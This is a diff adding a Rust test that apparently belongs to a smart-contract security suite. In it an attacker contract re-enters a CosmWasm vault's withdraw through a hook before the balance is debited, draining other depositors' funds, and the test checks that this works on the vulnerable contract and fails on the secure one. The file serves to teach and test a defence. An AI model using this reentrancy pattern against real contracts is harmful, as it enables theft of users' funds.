@@ -0,0 +1,155 @@
+//! Re-entering withdraw from a hook before the reply debits the balance
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_schema::cw_serde;
+use cosmwasm_std::{
+    coins, to_json_binary, Addr, Binary, Deps, DepsMut, Empty, Env, MessageInfo, Response,
+    StdResult, Uint128, WasmMsg,
+};
+use cw_multi_test::{Contract, ContractWrapper, Executor};
+use cw_storage_plus::Item;
+
+use crate::contracts::callback_ordering::{
+    execute, instantiate, query, reply, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{ExploitSpec, Harness, ATOM};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "callback_ordering",
+    description: "Withdraw hook re-enters the vault until it is empty",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "Cannot Sub with given operands",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query).with_reply(reply))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+const STAKE: u128 = 100;
+
+/// Contract the attacker withdraws through
+mod attacker_contract {
+    use super::*;
+
+    #[cw_serde]
+    pub enum ExecuteMsg {
+        Attack { vault: String },
+        Hook {},
+    }
+
+    const VAULT: Item<Addr> = Item::new("vault");
+
+    fn withdraw(vault: &Addr) -> StdResult<WasmMsg> {
+        Ok(WasmMsg::Execute {
+            contract_addr: vault.to_string(),
+            msg: to_json_binary(&super::ExecuteMsg::Withdraw {
+                amount: Uint128::new(STAKE),
+                hook: Some(to_json_binary(&ExecuteMsg::Hook {})?),
+            })?,
+            funds: vec![],
+        })
+    }
+
+    pub fn execute(
+        deps: DepsMut,
+        _env: Env,
+        info: MessageInfo,
+        msg: ExecuteMsg,
+    ) -> StdResult<Response> {
+        match msg {
+            ExecuteMsg::Attack { vault } => {
+                let vault = deps.api.addr_validate(&vault)?;
+                VAULT.save(deps.storage, &vault)?;
+                let deposit = WasmMsg::Execute {
+                    contract_addr: vault.to_string(),
+                    msg: to_json_binary(&super::ExecuteMsg::Deposit {})?,
+                    funds: info.funds,
+                };
+                Ok(Response::new()
+                    .add_message(deposit)
+                    .add_message(withdraw(&vault)?))
+            }
+            // Runs before the vault's reply: the balance is still undebited
+            ExecuteMsg::Hook {} => {
+                let vault = VAULT.load(deps.storage)?;
+                let remaining = deps.querier.query_balance(&vault, ATOM)?.amount;
+                if remaining.u128() < STAKE {
+                    return Ok(Response::new());
+                }
+                Ok(Response::new().add_message(withdraw(&vault)?))
+            }
+        }
+    }
+
+    pub fn instantiate(
+        _deps: DepsMut,
+        _env: Env,
+        _info: MessageInfo,
+        _msg: Empty,
+    ) -> StdResult<Response> {
+        Ok(Response::new())
+    }
+
+    pub fn query(_deps: Deps, _env: Env, _msg: Empty) -> StdResult<Binary> {
+        to_json_binary(&Empty {})
+    }
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (attacker, victim) = (h.attacker.clone(), h.victim.clone());
+
+    let vault = h.deploy(
+        code(),
+        &InstantiateMsg {
+            denom: ATOM.to_string(),
+        },
+        &[],
+        "vault",
+    )?;
+    h.execute(
+        &victim,
+        &vault,
+        &ExecuteMsg::Deposit {},
+        &coins(1_000, ATOM),
+    )?;
+
+    let attacker_code = h.app.store_code(Box::new(ContractWrapper::new(
+        attacker_contract::execute,
+        attacker_contract::instantiate,
+        attacker_contract::query,
+    )));
+    let helper = h.app.instantiate_contract(
+        attacker_code,
+        attacker.clone(),
+        &Empty {},
+        &[],
+        "helper",
+        None,
+    )?;
+
+    h.execute(
+        &attacker,
+        &helper,
+        &attacker_contract::ExecuteMsg::Attack {
+            vault: vault.to_string(),
+        },
+        &coins(STAKE, ATOM),
+    )?;
+
+    let stolen = h.balance(&helper, ATOM);
+    ensure!(
+        stolen > STAKE,
+        "attacker only recovered {stolen} of a {STAKE} deposit"
+    );
+    Ok(())
+}